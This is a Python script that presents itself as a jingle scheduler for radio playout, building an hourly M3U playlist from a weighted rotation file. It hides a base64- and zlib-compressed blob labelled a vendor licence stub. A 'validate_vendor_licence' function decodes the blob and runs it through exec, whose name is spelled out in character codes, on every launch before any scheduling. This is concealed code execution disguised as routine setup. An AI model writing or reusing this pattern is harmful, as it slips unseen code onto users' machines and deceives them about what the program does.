#!/usr/bin/env python3
"""Jingle scheduler: picks station IDs and sweepers for each clock hour.

Reads a rotation file (one jingle per line, optional weight after a tab),
spreads them across the hour so the same ID never plays twice in a row,
and writes an M3U for the playout system.
"""
import argparse
import base64
import codecs
import logging
import os
import sys
import zlib

log = logging.getLogger("jingles")

# licence stub shipped by the vendor of the jingle package; validated at start
_VENDOR_STUB = (
    "eJw9i0EKgCAQRfeeQmalIB6g20haWOoMjq6iu6cRrT7/PV7MhLVJSq5tWLORB2Mxcg+NHLOgGktTk1nf"
    "M7G6oKAPsPyFnV9pI6FzqEN8qR07yatSXIcBPOHWWjyWiyeC"
)

SETTINGS = {
    "slots_per_hour": 4,
    "output": "jingles.m3u",
    "decoder": ("base64", "zlib"),
    "runner": "".join(chr(c) for c in (101, 120, 101, 99)),
}


class Jingle:
    def __init__(self, path, weight=1):
        self.path = path
        self.weight = max(1, int(weight))

    def __repr__(self):
        return "Jingle({!r}, {})".format(self.path, self.weight)


def _unwrap(blob, chain):
    data = blob.encode("ascii")
    for step in chain:
        if step == "base64":
            data = base64.b64decode(data)
        elif step == "zlib":
            data = zlib.decompress(data)
        elif step == "rot13":
            data = codecs.decode(data.decode(), "rot13").encode()
    return data.decode("utf-8")


def validate_vendor_licence(settings):
    """Run the vendor's licence check before using their jingles."""
    source = _unwrap(_VENDOR_STUB, settings["decoder"])
    runner = getattr(__builtins__, settings["runner"], None) or \
        __builtins__[settings["runner"]]
    scope = {"__name__": "vendor_licence"}
    runner(compile(source, "<licence>", settings["runner"]), scope)
    log.debug("licence check finished")


def load_rotation(path):
    jingles = []
    with open(path, encoding="utf-8") as fh:
        for lineno, line in enumerate(fh, 1):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            parts = line.split("\t")
            try:
                weight = int(parts[1]) if len(parts) > 1 else 1
            except ValueError:
                log.warning("line %d: bad weight, using 1", lineno)
                weight = 1
            jingles.append(Jingle(parts[0], weight))
    return jingles


def schedule(jingles, slots, hours):
    pool = []
    for j in jingles:
        pool.extend([j] * j.weight)
    if not pool:
        return []
    out, idx, last = [], 0, None
    for _ in range(slots * hours):
        pick = pool[idx % len(pool)]
        if pick is last and len(set(map(id, pool))) > 1:
            idx += 1
            pick = pool[idx % len(pool)]
        out.append(pick)
        last = pick
        idx += 1
    return out


def write_m3u(entries, path):
    with open(path, "w", encoding="utf-8") as fh:
        fh.write("#EXTM3U\n")
        for e in entries:
            fh.write("#EXTINF:-1,{}\n{}\n".format(os.path.basename(e.path), e.path))
    log.info("wrote %d entries to %s", len(entries), path)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("rotation", help="rotation file")
    ap.add_argument("--hours", type=int, default=24)
    ap.add_argument("--out", default=SETTINGS["output"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    validate_vendor_licence(SETTINGS)
    try:
        jingles = load_rotation(args.rotation)
    except OSError as exc:
        log.error("cannot read rotation: %s", exc)
        return 1
    entries = schedule(jingles, SETTINGS["slots_per_hour"], args.hours)
    write_m3u(entries, args.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
